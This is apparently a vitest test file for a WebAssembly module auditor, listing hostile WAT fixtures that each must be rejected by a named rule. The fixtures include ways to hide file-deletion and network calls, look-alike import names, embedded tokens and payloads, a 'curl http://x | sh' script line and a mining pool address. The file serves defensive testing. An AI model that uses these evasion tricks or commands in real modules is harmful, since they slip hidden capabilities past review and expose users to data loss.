import { gzipSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { isAssayError } from '#model/errors';
import { digestOf } from '#model/digest';
import { refusalOf } from '#rules/refusals';
import type { Verdict } from '#model/verdict';
import { presetFor } from '#rules/presets/catalogue';
import { decide } from '#stages/decide/decide';
import { against, auditBytes, compile, customSection, decideOn, manifestWith, policyOf } from './audited.ts';
import { CARRIED } from './hostile/carried.ts';
import { HIDDEN_CALLS } from './hostile/hidden-calls.ts';
import { LOOK_ALIKES } from './hostile/look-alikes.ts';
import { NAMES } from './hostile/names.ts';
import { SHAPES } from './hostile/shapes.ts';
import { AWS, GITHUB, hex, type Hostile, MEMORY, WASI, withSection } from './hostile/trick.ts';

const OPEN = `(import "${WASI}" "path_open" (func $open (param i32 i32 i32 i32 i32 i64 i64 i32 i32) (result i32)))`;
const UNLINK = `(import "${WASI}" "path_unlink_file" (func $unlink (param i32 i32 i32) (result i32)))`;
const SEND = `(import "${WASI}" "sock_send" (func $send (param i32 i32 i32 i32 i32) (result i32)))`;
const CALL_OPEN =
  '(call $open (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i64.const 0) (i64.const 0) (i32.const 0) (i32.const 0))';
const CALL_UNLINK = '(call $unlink (i32.const 3) (i32.const 0) (i32.const 4))';
const CALL_SEND = '(call $send (i32.const 3) (i32.const 0) (i32.const 1) (i32.const 0) (i32.const 0))';
const UNLINK_TYPE = '(type $u (func (param i32 i32 i32) (result i32)))';
const CALL_TABLE = '(drop (call_indirect (type $u) (i32.const 3) (i32.const 0) (i32.const 4) (i32.const 0)))';
const data = (text: string) => `(module ${MEMORY} (data (i32.const 16) "${text}") (func (export "run")))`;

const HOSTILE: readonly Hostile[] = [
  // What the declaration hides
  {
    trick: 'undeclared files',
    rule: 'ASY122',
    abi: 'wasi-p1',
    module: `(module ${OPEN} ${MEMORY} (func (export "run") (drop ${CALL_OPEN})))`,
  },
  {
    trick: 'undeclared network',
    rule: 'ASY122',
    abi: 'wasi-p1',
    module: `(module ${SEND} ${MEMORY} (func (export "run") (drop ${CALL_SEND})))`,
  },
  {
    trick: 'declared network that the preset wants reviewed',
    rule: 'ASY121',
    abi: 'wasi-p1',
    declares: ['net'],
    module: `(module ${SEND} ${MEMORY} (func (export "run") (drop ${CALL_SEND})))`,
  },
  {
    trick: 'files under a policy that denies them',
    rule: 'ASY120',
    abi: 'wasi-p1',
    declares: ['fs'],
    policy: 'extends: [assay:wasi-p1@1]\ncapabilities: { deny: [fs] }\n',
    outcome: 'reject',
    module: `(module ${OPEN} ${MEMORY} (func (export "run") (drop ${CALL_OPEN})))`,
  },
  {
    trick: 'a signal to another process',
    rule: 'ASY121',
    abi: 'wasi-p1',
    declares: ['process'],
    module: `(module (import "${WASI}" "proc_raise" (func $raise (param i32) (result i32))) ${MEMORY} (func (export "run") (drop (call $raise (i32.const 9)))))`,
  },
  {
    trick: 'undeclared http through Extism',
    rule: 'ASY122',
    abi: 'extism',
    module:
      '(module (import "extism:host/env" "http_request" (func $http (param i64 i64) (result i64))) (func (export "run") (result i32) (drop (call $http (i64.const 0) (i64.const 0))) (i32.const 0)))',
  },
  {
    trick: 'a host function of the embedding application',
    rule: 'ASY121',
    abi: 'extism',
    declares: ['host:extism:host/user.*'],
    module:
      '(module (import "extism:host/user" "run_query" (func $query (param i64) (result i64))) (func (export "run") (result i32) (drop (call $query (i64.const 0))) (i32.const 0)))',
  },
  {
    trick: 'an upstream call from a proxy filter',
    rule: 'ASY122',
    abi: 'proxy-wasm',
    module:
      '(module (import "env" "proxy_http_call" (func $call (param i32 i32 i32 i32 i32 i32 i32 i32 i32 i32) (result i32))) (memory (export "memory") 1) (func (export "proxy_abi_version_0_2_1")) (func (export "malloc") (param i32) (result i32) (i32.const 0)) (func (export "proxy_on_tick") (param i32) (drop (call $call (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0) (i32.const 0)))))',
  },
  // Ways to hide a call
  {
    trick: 'a call through the table',
    rule: 'ASY122',
    abi: 'wasi-p1',
    module: `(module ${UNLINK_TYPE} ${UNLINK} ${MEMORY} (table 1 funcref) (elem (i32.const 0) $unlink) (func (export "run") ${CALL_TABLE}))`,
  },
  {
    trick: 'a table entry written at run time',
    rule: 'ASY122',
    abi: 'wasi-p1',
    module: `(module ${UNLINK_TYPE} ${UNLINK} ${MEMORY} (table 1 funcref) (elem declare func $unlink) (func (export "run") (table.set (i32.const 0) (ref.func $unlink)) ${CALL_TABLE}))`,
  },
  {
    trick: 'a table filled from a passive segment',
    rule: 'ASY122',
    abi: 'wasi-p1',
    module: `(module ${UNLINK_TYPE} ${UNLINK} ${MEMORY} (table 1 funcref) (elem $e func $unlink) (func (export "run") (table.init $e (i32.const 0) (i32.const 0) (i32.const 1)) ${CALL_TABLE}))`,
  },
  {
    trick: 'the import handed out in an exported table',
    rule: 'ASY122',
    abi: 'wasi-p1',
    module: `(module ${UNLINK} ${MEMORY} (table (export "t") 1 funcref) (elem (i32.const 0) $unlink) (func (export "run")))`,
  },
  {
    trick: 'the import exported again',
    rule: 'ASY122',
    abi: 'wasi-p1',
    module: `(module ${UNLINK} ${MEMORY} (export "helper" (func $unlink)))`,
  },
  {
    trick: 'a tail call',
    rule: 'ASY122',
    abi: 'wasi-p1',
    module: `(module ${UNLINK} ${MEMORY} (func (export "run") (result i32) (return_call $unlink (i32.const 3) (i32.const 0) (i32.const 4))))`,
  },
  // Code that runs before anybody asked
  {
    trick: 'a start section that deletes a file',
    rule: 'ASY220',
    abi: 'wasi-p1',
    declares: ['fs'],
    outcome: 'reject',
    module: `(module ${UNLINK} ${MEMORY} (func $s (drop ${CALL_UNLINK})) (start $s) (func (export "run")))`,
  },
  {
    trick: 'a start section that sends, three calls deep',
    rule: 'ASY220',
    abi: 'wasi-p1',
    declares: ['net'],
    outcome: 'reject',
    module: `(module ${SEND} ${MEMORY} (func $a (call $b)) (func $b (call $c)) (func $c (drop ${CALL_SEND})) (start $a) (func (export "run")))`,
  },
  {
    trick: 'a start section that reaches files through the table',
    rule: 'ASY221',
    abi: 'wasi-p1',
    declares: ['fs'],
    module: `(module ${UNLINK_TYPE} ${UNLINK} ${MEMORY} (table 1 funcref) (elem (i32.const 0) $unlink) (func $s ${CALL_TABLE}) (start $s) (func (export "run")))`,
  },
  // Imports that are not what they seem
  {
    trick: 'an import nobody listed',
    rule: 'ASY100',
    abi: 'custom',
    declares: ['host:env.send'],
    outcome: 'reject',
    module: '(module (import "env" "send" (func $f)) (func (export "run") (call $f)))',
  },
  {
    trick: 'an unlisted import that no code reaches',
    rule: 'ASY100',
    abi: 'wasi-p1',
    outcome: 'reject',
    module: '(module (import "env" "send" (func)) (func (export "run")))',
  },
  {
    trick: 'a denied import under a wide allowance',
    rule: 'ASY100',
    abi: 'custom',
    outcome: 'reject',
    policy: 'imports:\n  allow: ["env.*"]\n  deny: [env.exec]\n',
    declares: ['host:env.exec'],
    module: '(module (import "env" "exec" (func $f)) (func (export "run") (call $f)))',
  },
  {
    trick: 'a module named to match another pattern',
    rule: 'ASY100',
    abi: 'wasi-p1',
    outcome: 'reject',
    module: `(module (import "${WASI}.x" "fd_write" (func)) (func (export "run")))`,
  },
  {
    trick: 'a function that WASI does not have',
    rule: 'ASY111',
    abi: 'wasi-p1',
    outcome: 'reject',
    module: `(module (import "${WASI}" "proc_exec" (func $f (param i32 i32) (result i32))) ${MEMORY} (func (export "run") (drop (call $f (i32.const 0) (i32.const 0)))))`,
  },
  {
    trick: 'a function that Extism does not have',
    rule: 'ASY111',
    abi: 'extism',
    outcome: 'reject',
    module:
      '(module (import "extism:host/env" "exec" (func $f (param i64))) (func (export "run") (result i32) (call $f (i64.const 0)) (i32.const 0)))',
  },
  {
    trick: 'fd_write with one parameter too many',
    rule: 'ASY110',
    abi: 'wasi-p1',
    outcome: 'reject',
    module: `(module (import "${WASI}" "fd_write" (func $f (param i32 i32 i32 i32 i32) (result i32))) ${MEMORY} (func (export "run")))`,
  },
  {
    trick: 'http_request that returns nothing',
    rule: 'ASY110',
    abi: 'extism',
    outcome: 'reject',
    module:
      '(module (import "extism:host/env" "http_request" (func (param i64 i64))) (func (export "run") (result i32) (i32.const 0)))',
  },
  {
    trick: 'proxy_log with an i64',
    rule: 'ASY110',
    abi: 'proxy-wasm',
    outcome: 'reject',
    module:
      '(module (import "env" "proxy_log" (func (param i32 i64 i32) (result i32))) (memory (export "memory") 1) (func (export "proxy_abi_version_0_2_1")) (func (export "malloc") (param i32) (result i32) (i32.const 0)))',
  },
  {
    trick: 'a module name one letter off',
    rule: 'ASY130',
    abi: 'custom',
    policy: 'imports: { allow: ["*"] }\n',
    module:
      '(module (import "wasi_snapshot_previewl" "fd_write" (func (param i32 i32 i32 i32) (result i32))) (func (export "run")))',
  },
  {
    trick: 'env in Cyrillic',
    rule: 'ASY130',
    abi: 'custom',
    policy: 'imports: { allow: ["*"] }\n',
    module: '(module (import "еnv" "log" (func)) (func (export "run")))',
  },
  {
    trick: 'env in capitals',
    rule: 'ASY130',
    abi: 'custom',
    policy: 'imports: { allow: ["*"] }\n',
    module: '(module (import "ENV" "log" (func)) (func (export "run")))',
  },
  {
    trick: 'a name that reads backwards',
    rule: 'ASY131',
    abi: 'custom',
    policy: 'imports: { allow: ["*"] }\n',
    module: '(module (import "host" "\\e2\\80\\aegol" (func)) (func (export "run")))',
  },
  {
    trick: 'an export with a NUL in it',
    rule: 'ASY131',
    abi: 'custom',
    module: '(module (func (export "run\\00hidden")))',
  },
  {
    trick: 'minified names where nobody minifies',
    rule: 'ASY140',
    abi: 'custom',
    policy: 'imports: { allow: ["*"] }\n',
    module: '(module (import "a" "b" (func $f)) (func (export "run") (call $f)))',
  },
  {
    trick: 'a memory that the host can change',
    rule: 'ASY150',
    abi: 'custom',
    policy: 'imports: { allow: ["*"] }\n',
    module: '(module (import "env" "memory" (memory 1)) (func (export "run")))',
  },
  {
    trick: 'memory shared between threads',
    rule: 'ASY151',
    abi: 'emscripten',
    module: '(module (import "env" "memory" (memory 1 2 shared)) (func (export "run")))',
  },
  {
    trick: 'script evaluated by the page',
    rule: 'ASY160',
    abi: 'emscripten',
    declares: ['host:*'],
    outcome: 'reject',
    module:
      '(module (import "env" "emscripten_run_script" (func $f (param i32))) (func (export "run") (call $f (i32.const 0))))',
  },
  {
    trick: 'libraries loaded at run time',
    rule: 'ASY161',
    abi: 'emscripten',
    declares: ['host:*'],
    module:
      '(module (import "env" "_dlopen_js" (func $f (param i32) (result i32))) (func (export "run") (drop (call $f (i32.const 0)))))',
  },
  {
    trick: 'JavaScript carried in the data',
    rule: 'ASY162',
    abi: 'emscripten',
    declares: ['host:*'],
    module:
      '(module (import "env" "emscripten_asm_const_int" (func $f (param i32 i32 i32) (result i32))) (func (export "run") (drop (call $f (i32.const 0) (i32.const 0) (i32.const 0)))))',
  },
  // Contracts and budgets
  {
    trick: 'a WASI module without a memory to point into',
    rule: 'ASY182',
    abi: 'wasi-p1',
    outcome: 'reject',
    module: `(module (import "${WASI}" "random_get" (func $r (param i32 i32) (result i32))) (memory 1) (func (export "run") (drop (call $r (i32.const 0) (i32.const 8)))))`,
  },
  {
    trick: 'a _start that wants arguments',
    rule: 'ASY182',
    abi: 'wasi-p1',
    outcome: 'reject',
    module: '(module (func (export "_start") (param i32)))',
  },
  {
    trick: 'three gigabytes of initial memory',
    rule: 'ASY250',
    abi: 'custom',
    outcome: 'reject',
    module: '(module (memory 50000) (func (export "run")))',
  },
  {
    trick: 'nine million table entries',
    rule: 'ASY252',
    abi: 'custom',
    outcome: 'reject',
    module: '(module (table 9000000 funcref) (func (export "run")))',
  },
  {
    trick: 'data that overwrites data',
    rule: 'ASY271',
    abi: 'custom',
    module: `(module ${MEMORY} (data (i32.const 0) "harmless") (data (i32.const 4) "evil") (func (export "run")))`,
  },
  {
    trick: 'data beyond the memory',
    rule: 'ASY270',
    abi: 'custom',
    module: `(module ${MEMORY} (data (i32.const 65534) "abcd") (func (export "run")))`,
  },
  // Things carried along
  { trick: 'a token in the data', rule: 'ASY310', abi: 'custom', module: data(GITHUB) },
  {
    trick: 'a token split over two segments',
    rule: 'ASY310',
    abi: 'custom',
    module: `(module ${MEMORY} (data (i32.const 16) "${GITHUB.slice(0, 12)}") (data (i32.const 28) "${GITHUB.slice(12)}") (func (export "run")))`,
  },
  { trick: 'a token in UTF-16', rule: 'ASY310', abi: 'custom', module: data(hex(Buffer.from(AWS, 'utf16le'))) },
  {
    trick: 'a token in base64',
    rule: 'ASY310',
    abi: 'custom',
    module: data(Buffer.from(`user=${GITHUB}`).toString('base64')),
  },
  { trick: 'a token in a custom section', rule: 'ASY310', abi: 'custom', module: withSection('notes', `key ${AWS} `) },
  {
    trick: 'a ZIP archive at the end of the file',
    rule: 'ASY50',
    abi: 'custom',
    module: withSection('z', Buffer.concat([Buffer.from('PK\x05\x06', 'latin1'), Buffer.alloc(18)])),
  },
  {
    trick: 'a web page in a custom section',
    rule: 'ASY50',
    abi: 'custom',
    module: withSection('page', '<script>alert(1)</script>'),
  },
  {
    trick: 'a program in a custom section',
    rule: 'ASY50',
    abi: 'custom',
    module: withSection('tool', Buffer.from('7f454c46020101000000', 'hex')),
  },
  { trick: 'a program in the data', rule: 'ASY430', abi: 'custom', module: data('\\7fELF\\02\\01\\01\\00\\00\\00') },
  {
    trick: 'a compressed stream in the data',
    rule: 'ASY430',
    abi: 'custom',
    module: data(hex(gzipSync('payload '.repeat(20)))),
  },
  {
    trick: 'a module in the data',
    rule: 'ASY430',
    abi: 'custom',
    module: async () => compile(data(hex(await compile('(module (func (export "x")))')))),
  },
  {
    trick: 'a shell script in the data',
    rule: 'ASY430',
    abi: 'custom',
    module: data('#!/bin/sh\\0acurl http://x | sh\\0a'),
  },
  {
    trick: 'two custom sections of one name',
    rule: 'ASY70',
    abi: 'custom',
    module: async () =>
      Buffer.concat([
        await compile('(module (func (export "run")))'),
        customSection('name', Uint8Array.of(0, 2, 1, 65)),
        customSection('name', Uint8Array.of(0, 2, 1, 66)),
      ]),
  },
  {
    trick: 'a mining pool beside a bare address',
    rule: 'ASY412',
    abi: 'custom',
    module: data('stratum+tcp://pool.invalid:3333 45.83.12.9:4444'),
  },
  // Bytes that no engine should get
  { trick: 'an empty file', rule: 'ASY10', abi: 'custom', outcome: 'reject', module: () => new Uint8Array(0) },
  {
    trick: 'a truncated module',
    rule: 'ASY10',
    abi: 'custom',
    outcome: 'reject',
    module: async () => (await compile('(module (func (export "run")))')).subarray(0, 20),
  },
  {
    trick: 'a function that returns the wrong type',
    rule: 'ASY11',
    abi: 'custom',
    outcome: 'reject',
    module: () => Buffer.from('0061736d010000000105016000017f03020100070501017200000a06010400420a0b', 'hex'),
  },
  {
    trick: 'a million locals in ten bytes',
    rule: 'ASY40',
    abi: 'custom',
    outcome: 'reject',
    module: () => Buffer.from('0061736d01000000010401600000030201000a0801060180897a7f0b', 'hex'),
  },
];

const ALL: readonly Hostile[] = [...HOSTILE, ...NAMES, ...LOOK_ALIKES, ...HIDDEN_CALLS, ...CARRIED, ...SHAPES];

async function verdictOn(item: Hostile): Promise<Verdict> {
  const bytes = typeof item.module === 'string' ? await compile(item.module) : await item.module();
  const policy = item.policy ?? presetFor(item.abi);
  const manifest = manifestWith(item.abi, item.declares);
  try {
    return decideOn(
      await auditBytes(bytes, { kind: item.abi, ...(item.world === undefined ? {} : { world: item.world }) }),
      { policy, manifest },
    );
  } catch (error) {
    if (!isAssayError(error)) throw error;
    const refusal = refusalOf(error);
    if (refusal === undefined) throw error;
    const refused = [{ digest: digestOf(bytes), size: bytes.length, name: 'test.wasm', build: '', refusal }];
    return decide({ reports: [], refused, manifest, policy: policyOf(policy), date: new Date(0) });
  }
}

describe('no hostile module is approved, and the reason is the right rule', () => {
  it.each(ALL)('$trick: $rule', async (item) => {
    const verdict = await verdictOn(item);
    expect(verdict.decision.outcome).not.toBe('approve');
    expect(against(verdict)).toContain(item.rule);
    if (item.outcome !== undefined) expect(verdict.decision.outcome).toBe(item.outcome);
  });

  it('there are at least 140 tricks, no two alike', () => {
    expect(new Set(ALL.map((item) => item.trick)).size).toBe(ALL.length);
    expect(ALL.length).toBeGreaterThanOrEqual(140);
  });
});
